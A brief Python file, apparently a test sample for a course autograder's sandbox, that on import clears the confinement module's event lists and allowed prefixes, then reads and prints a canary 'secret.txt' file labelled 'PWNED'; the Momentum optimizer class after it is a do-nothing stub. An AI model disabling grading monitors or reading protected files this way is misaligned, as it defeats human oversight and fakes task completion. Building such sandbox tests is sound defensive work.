import sys, os, subprocess
M = sys.modules['course.grading.confine.manners']
M.PROCESS_EVENTS.clear(); M.OUTSIDE_EVENTS.clear(); M.OUTSIDE_PREFIXES = ()
print('PWNED', subprocess.run(['cat', '@CANARY@/secret.txt'], capture_output=True).stdout)

class Momentum:
    def __init__(self, **k):
        self.__dict__.update(k)
    def init(self, param):
        return {}
    def update(self, param, grad, state):
        return param * 1.0, {}
